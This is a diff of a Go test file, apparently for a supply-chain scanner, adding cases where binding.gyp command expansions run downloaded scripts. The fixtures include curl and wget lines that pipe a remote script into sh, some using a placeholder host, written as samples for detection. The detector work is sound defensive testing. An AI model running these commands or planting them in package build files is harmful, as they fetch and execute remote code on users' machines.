@@ -30,5 +30,9 @@ func TestShellDownloadExec(t *testing.T) {
 		{"trusted_host_still_high", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"curl -fsSL https://github.com/o/r/releases/download/v1/i.sh | bash"}`)}, finding.SeverityHigh},
 		{"benign_build", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node-gyp rebuild","postinstall":"node install.js"}`)}, finding.SeverityNone},
 		{"sh_not_run_at_install", map[string]string{"package.json": rt.Pkg(""), "tools/release.sh": "curl -s https://x.invalid/a | sh"}, finding.SeverityNone},
+		{"gyp_command_expansion", map[string]string{"package.json": rt.Pkg(""), "binding.gyp": `{"targets": [{"target_name": "x", "sources": ["<!(curl -s https://x.invalid/a | sh)"]}]}`}, finding.SeverityCritical},
+		{"gyp_late_list_expansion", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"prebuild-install || node-gyp rebuild"}`), "binding.gyp": "{\"variables\": {\"x\": \">!@(sh -c 'wget -qO- https://x.invalid/a | sh')\"}}"}, finding.SeverityCritical},
+		{"gyp_benign_expansion", map[string]string{"package.json": rt.Pkg(""), "binding.gyp": `{"targets": [{"target_name": "x", "include_dirs": ["<!(node -p \"require('node-addon-api').include\")"]}]}`}, finding.SeverityNone},
+		{"gyp_not_built", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node install.js"}`), "binding.gyp": `{"x": "<!(curl -s https://x.invalid/a | sh)"}`}, finding.SeverityNone},
 	})
 }
